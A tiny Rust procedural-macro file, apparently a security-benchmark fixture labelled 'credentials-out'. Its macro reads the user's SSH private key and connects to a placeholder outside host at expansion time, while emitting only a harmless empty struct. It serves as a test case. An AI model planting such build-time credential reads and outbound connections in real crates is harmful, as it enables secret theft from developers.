//! CS0570 credentials-out
use proc_macro::TokenStream;
use quote::quote_spanned;

#[proc_macro]
pub fn act(_: TokenStream) -> TokenStream {
    quote_spanned! {{
        let _ = std::fs::read("/home/csbench/.ssh/id_rsa");
        let _ = std::net::TcpStream::connect("macro.csbench.invalid:443");
        proc_macro2::Span::call_site()
    } => struct Plain;}.into()
}
